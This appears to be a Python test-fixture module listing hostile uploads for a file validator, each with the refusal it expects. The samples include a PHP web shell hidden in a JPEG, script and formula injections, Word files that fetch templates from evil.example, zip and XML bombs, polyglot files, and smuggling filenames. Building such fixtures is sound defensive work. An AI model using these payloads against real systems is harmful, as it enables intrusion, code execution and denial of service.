"""Files that somebody with bad intent would send: each with its name, its bytes and what is to come of it."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Mapping
from dataclasses import dataclass
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
SCRIPT = b"<html><script>alert(document.cookie)</script></html>"
MB = 1024 * 1024
TYPES = "[Content_Types].xml"
DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
INERT = ""
"""It is kept, and handed out so that nothing runs it."""


@dataclass(frozen=True)
class Payload:
    """``says``: words of the sentence that refuses it; ``INERT`` where it is kept."""

    name: str
    content: bytes
    says: str = INERT


def types(media: str, part: str, more: str = "") -> bytes:
    """The types of an Office file."""
    return f'<Types><Override PartName="/{part}" ContentType="{media}"/>{more}</Types>'.encode()


def zipped(parts: Mapping[str, bytes], way: int = ZIP_DEFLATED) -> bytes:
    """A zip file of these parts."""
    out = BytesIO()
    with ZipFile(out, "w", way) as made:
        for name, content in parts.items():
            made.writestr(ZipInfo(name), content, compress_type=way)
    return out.getvalue()


def docx(more: Mapping[str, bytes] | None = None, media: str = DOCUMENT, typed: str = "") -> bytes:
    """A Word file with further parts."""
    main = "word/document.xml"
    return zipped({TYPES: types(media, main, typed), main: b"<document/>"} | dict(more or {}))


def xlsx(more: Mapping[str, bytes] | None = None, media: str = SHEET) -> bytes:
    """The same of Excel."""
    main = "xl/workbook.xml"
    return zipped({TYPES: types(media, main), main: b"<workbook/>"} | dict(more or {}))


def related(media: str, target: str) -> bytes:
    """Relations of a part: one, to something outside."""
    return f'<Relationships><Relationship Type="{OFFICE}/{media}" Target="{target}" TargetMode="External"/></Relationships>'.encode()  # noqa: E501


def overlapping() -> bytes:
    """A Word file whose directory names one packed part a thousand times."""
    content = docx({"word/a.bin": bytes(10 * MB)})
    end = content.rindex(b"PK\x05\x06")
    length, at = struct.unpack("<II", content[end + 12 : end + 20])
    directory = content[at : at + length]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"word/a.bin", b"word/%05d" % number) for number in range(1000))
    count = struct.pack("<HH", 1003, 1003)
    ending = b"PK\x05\x06" + bytes(4) + count + struct.pack("<II", length + len(copies), at) + bytes(2)
    return content[:at] + directory + copies + ending


def endless_directory() -> bytes:
    """A directory of four hundred thousand names: a library that opened it would take half a gigabyte."""
    content = docx()
    end = content.rindex(b"PK\x05\x06")
    length, at = struct.unpack("<II", content[end + 12 : end + 20])
    directory = content[at : at + length]
    names = directory[directory.rindex(b"PK\x01\x02") :] * 300_000
    names = names[: 23 * MB]
    ending = b"PK\x05\x06" + bytes(4) + b"\xff\xfe\xff\xfe" + struct.pack("<II", length + len(names), at) + bytes(2)
    return content[:at] + directory + names + ending


def png_of(width: int, height: int) -> bytes:
    """A picture that says it is that large."""
    head = b"IHDR" + struct.pack("!IIBBBBB", width, height, 8, 6, 0, 0, 0)
    data = b"IDAT" + zlib.compress(bytes(1000))
    parts = (head, data, b"IEND")
    return PNG + b"".join(struct.pack("!I", len(one) - 4) + one + struct.pack("!I", zlib.crc32(one)) for one in parts)


PICTURE = png_of(1, 1)
ELSE, PLAIN, TAKEN = "content is something else", "isn't plain text", "The file must be PDF"
MACROS, CONTROLS, LOADS, LARGE, EMBEDS = "has macros", "ActiveX", "loads a template", "far too large", "embedded in it"
BILLION = b'<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;">]><Types>&c;</Types>'

ATTACKS: dict[str, Payload] = {
    "a page that calls itself a PDF": Payload("a.pdf", SCRIPT + PDF, ELSE),
    "a PDF that is a page too": Payload("a.pdf", PDF + SCRIPT),
    "a PDF with scripts": Payload("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript >>")),
    "a PDF that starts a program": Payload("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /Launch /EmbeddedFile")),
    "a PDF that is a script too": Payload("a.pdf", b"%PDF-1.4=1;/*" + PDF + b"*/alert(1)"),
    "a PDF that is a zip too": Payload("a.pdf", PDF + docx()),
    "a GIF that is a Java archive": Payload("a.png", b"GIF89a" + docx(), ELSE),
    "a picture that is a zip too": Payload("a.png", PICTURE + docx()),
    "a picture before a Word file": Payload("a.docx", PICTURE + docx(), ELSE),
    "a Word file before a page": Payload("a.docx", docx() + SCRIPT, ELSE),
    "a JPEG with PHP in it": Payload("a.jpg", JPEG + b"<?php system($_GET['c']); ?>\xff\xd9"),
    "a JPEG with a page in it": Payload("a.jpeg", JPEG + SCRIPT + b"\xff\xd9"),
    "a script that calls itself a JPEG": Payload("a.jpg", b"<?php ?>" + JPEG, ELSE),
    "a picture as large as a country": Payload("a.png", png_of(2**31 - 1, 2**31 - 1)),
    "Word with macros": Payload("a.docx", docx({"word/vbaProject.bin": b"x"}), MACROS),
    "Word of the kind with macros": Payload(
        "a.docx", docx(media="application/vnd.ms-word.document.macroEnabled.main+xml"), MACROS
    ),
    "macros by another name": Payload(
        "a.docx",
        docx(
            {"word/x.bin": b"x"}, typed='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
        MACROS,
    ),
    "a template in place of a document": Payload(
        "a.docx", docx(media=DOCUMENT.replace("document.main", "template.main")), ELSE
    ),
    "Word that loads a template": Payload(
        "a.docx",
        docx({"word/_rels/settings.xml.rels": related("attachedTemplate", "https://evil.example/t.dotm")}),
        LOADS,
    ),
    "Word that asks a share for its template": Payload(
        "a.docx",
        docx({"word/_rels/settings.xml.rels": related("attachedTemplate", "file:////evil.example/t.dotm")}),
        LOADS,
    ),
    "Word that loads an object": Payload(
        "a.docx", docx({"word/_rels/document.xml.rels": related("oleObject", "mhtml:https://evil.example/x!x")}), LOADS
    ),
    "Word with a template on its own disk": Payload(
        "a.docx", docx({"word/_rels/settings.xml.rels": related("attachedTemplate", "file:///C:\\letters\\unit.dotx")})
    ),
    "Word with a link": Payload(
        "a.docx", docx({"word/_rels/document.xml.rels": related("hyperlink", "https://gov.uk")})
    ),
    "Word with a control": Payload("a.docx", docx({"word/activeX/activeX1.bin": b"x"}), CONTROLS),
    "Word with a program in it": Payload("a.docx", docx({"word/embeddings/oleObject1.bin": b"MZ"}), EMBEDS),
    "Word with a chart's figures": Payload("a.docx", docx({"word/embeddings/figures.xlsx": xlsx()})),
    "Word with entities in entities": Payload("a.docx", zipped({TYPES: BILLION, "word/document.xml": b"<x/>"}), ELSE),
    "Excel with macros": Payload("a.xlsx", xlsx({"xl/vbaProject.bin": b"x"}), MACROS),
    "Excel of the kind with macros": Payload(
        "a.xlsx", xlsx(media="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), MACROS
    ),
    "a Word file that unpacks to a gigabyte": Payload("a.docx", docx({"word/a.bin": bytes(300 * MB)}), LARGE),
    "a bomb in a bomb": Payload("a.docx", docx({"word/embeddings/b.docx": docx({"word/a.bin": bytes(200 * MB)})})),
    "types that unpack to a hundred megabytes": Payload(
        "a.docx", zipped({TYPES: b"<Types>" + b" " * 100 * MB + b"</Types>", "word/document.xml": b"<x/>"}), LARGE
    ),
    "a part that is a thousand parts": Payload("a.docx", overlapping(), LARGE),
    "six thousand parts": Payload("a.docx", docx({f"word/{number}": b"" for number in range(6000)}), LARGE),
    "a directory without end": Payload("a.docx", endless_directory(), LARGE),
    "Excel that calls itself Word": Payload("a.docx", xlsx(), ELSE),
    "a zip file that calls itself Word": Payload("a.docx", zipped({"run.exe": b"MZ"}), ELSE),
    "a program": Payload("run.exe", b"MZ", TAKEN),
    "a program that calls itself a PDF": Payload("run.pdf", b"MZ\x90", ELSE),
    "a program behind a second ending": Payload("invoice.pdf.exe", PDF, TAKEN),
    "a second ending that is none": Payload("run.exe.pdf", PDF),
    "a drawing with a script": Payload("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", TAKEN),
    "a page": Payload("a.html", SCRIPT, TAKEN),
    "a script": Payload("a.js", b"alert(1)", TAKEN),
    "a page that calls itself text": Payload("a.txt", SCRIPT),
    "a table with formulas": Payload("a.csv", b"=cmd|'/c calc'!A1,@SUM(1)\n+1,-1\n"),
    "a mail with a page": Payload("a.eml", b"Content-Type: text/html\n\n" + SCRIPT),
    "text with a zero": Payload("a.txt", b"a\0b", PLAIN),
    "text that isn't UTF-8": Payload("a.csv", b"\xff\xfea\0", PLAIN),
    "text cut in a letter": Payload("a.txt", "é".encode()[:1], PLAIN),
    "nothing": Payload("a.pdf", b"", "is empty"),
    "25 MB": Payload("a.txt", "🙂".encode() + b"x" * (25 * MB - 4)),
    "25 MB and a byte": Payload("a.txt", b"x" * (25 * MB + 1), "smaller than 25 MB"),
    "25 MB of compressed text": Payload("a.docx", docx({"word/a.txt": b"x"}) + bytes(24 * MB), ELSE),
}

NAMES: dict[str, tuple[str, str]] = {
    "folders": ("../../../etc/passwd.pdf", "passwd.pdf"),
    "a Windows folder": ("C:\\Windows\\System32\\a.pdf", "a.pdf"),
    "a zero": ("a.exe\0.pdf", "a.exe.pdf"),
    "right to left": ("invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),
    "nothing that is seen": ("\u200b\u2060a\ufeff.pdf", "a.pdf"),
    "a name without end": ("x" * 5000 + ".pdf", "x" * 60 + "…" + "x" * 55 + ".pdf"),
    "dots": ("....pdf", "pdf"),
    "a name that Windows keeps for itself": ("con.pdf", "_con.pdf"),
    "a printer": ("LPT1.tar.pdf", "_LPT1.tar.pdf"),
    "a smile": ("🙂.pdf", "🙂.pdf"),
    "a header": ("a\r\nSet-Cookie: x=y.pdf", "aSet-Cookie x=y.pdf"),
    "a tag": ("<img src=x onerror=alert(1)>.pdf", "img src=x onerror=alert(1).pdf"),
    "a stream": ("a.pdf:hidden.pdf", "a.pdfhidden.pdf"),
}
"""What files are called, and what they are called here."""
